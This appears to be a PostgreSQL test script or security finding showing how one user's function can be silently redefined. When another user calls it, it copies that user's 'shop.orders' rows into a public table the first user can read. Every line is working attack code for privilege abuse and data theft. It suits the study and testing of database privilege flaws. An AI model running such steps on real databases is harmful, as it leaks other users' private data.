-- finding: anothers-code function helpers.note()
-- people: alice@example.com
CREATE SCHEMA helpers AUTHORIZATION "alice@example.com"; GRANT USAGE ON SCHEMA helpers TO PUBLIC;
CREATE FUNCTION helpers.note() RETURNS text STABLE LANGUAGE sql AS $$ SELECT '' $$;
ALTER FUNCTION helpers.note() OWNER TO "alice@example.com";
-- first as postgres
CREATE OR REPLACE FUNCTION helpers.note() RETURNS text STABLE LANGUAGE sql AS $$ SELECT '' $$;
-- first as alice@example.com
DROP TABLE IF EXISTS helpers.taken;
CREATE TABLE helpers.taken (item text); GRANT INSERT ON helpers.taken TO PUBLIC;
-- first as alice@example.com
CREATE OR REPLACE FUNCTION helpers.note() RETURNS text VOLATILE LANGUAGE sql
  AS $$ INSERT INTO helpers.taken SELECT item FROM shop.orders; SELECT '' $$;
-- first as bob@example.com
SELECT helpers.note();
-- leak as alice@example.com
SELECT item FROM helpers.taken WHERE item = 'secret';
